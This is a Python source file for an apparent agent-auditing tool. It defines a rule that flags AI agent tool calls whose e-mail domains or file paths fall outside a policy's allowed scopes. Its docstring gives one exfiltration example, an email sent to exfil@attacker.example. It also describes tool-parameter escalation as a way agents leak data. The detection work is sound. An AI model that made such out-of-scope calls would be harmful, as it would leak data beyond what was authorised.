from __future__ import annotations

import fnmatch

from .base import Rule


def _domain_ok(domain: str, allowed: list[str]) -> bool:
    return any(domain == p or fnmatch.fnmatchcase(domain, p) for p in allowed)


def _path_ok(path: str, allowed: list[str]) -> bool:
    return any(fnmatch.fnmatchcase(path, p) or path.startswith(p.rstrip("*").rstrip("/") + "/")
               and p.endswith("/**") for p in allowed)


class ArgumentOutOfScope(Rule):
    """Flags an action whose arguments name a domain or path outside the policy's scopes.

    **What it flags.** A ``tool_call`` of a tool matched by a policy ``[[scopes]]`` entry whose
    argument (``arg``, glob; all arguments if omitted) names an e-mail/URL domain not in
    ``domains`` (or in ``deny_domains``), or a file path not matching ``paths`` (or matching
    ``deny_paths``).  Domains and paths come from the call's ``arg_domains``/``arg_paths``
    evidence, recorded at capture time for sensitive and requires-approval tools (no raw
    arguments needed).

    **Why it matters.** Tool-parameter escalation (survey AV5): the right tool with the wrong
    argument (a recipient outside the company, a path outside the workspace) is how data leaves
    or gets destroyed.

    **Example.** Scope ``tool="send_email", arg="to", domains=["corp.example"]`` and a call
    ``send_email(to="exfil@attacker.example")``.

    **How to fix.** Validate arguments against the same scope in the tool itself; if the target
    is legitimate, widen the scope in the policy.
    """

    code = "OTA203"
    name = "argument-out-of-scope"
    default_severity = "high"
    summary = "Action argument names a domain or path outside the policy's scopes"
    events = ("tool_call",)

    def applies(self, policy):  # type: ignore[no-untyped-def]
        return bool(policy.scopes)

    def check(self, s, i):  # type: ignore[no-untyped-def]
        scopes = s.engine.scopes_for(s.ev(i).get("tool") or "")
        if not scopes:
            return
        e = s.ev(i)
        domains = e.get("arg_domains") or {}
        paths = e.get("arg_paths") or {}
        bad: list[str] = []
        for sc in scopes:
            for arg, values in domains.items():
                if sc.arg and not fnmatch.fnmatchcase(arg, sc.arg):
                    continue
                for d in values:
                    if (sc.domains is not None and not _domain_ok(d, sc.domains)) or _domain_ok(d, sc.deny_domains):
                        bad.append(f"{arg}: domain {d}")
            for arg, values in paths.items():
                if sc.arg and not fnmatch.fnmatchcase(arg, sc.arg):
                    continue
                for p in values:
                    if (sc.paths is not None and not _path_ok(p, sc.paths)) or _path_ok(p, sc.deny_paths):
                        bad.append(f"{arg}: path {p}")
        if not bad:
            return
        bad = list(dict.fromkeys(bad))
        s.report(self, i, f"{s.agent_name(i)} called {e.get('tool')} outside its scope ({'; '.join(bad[:5])})",
                 notes={i: "call"}, details={"violations": bad})
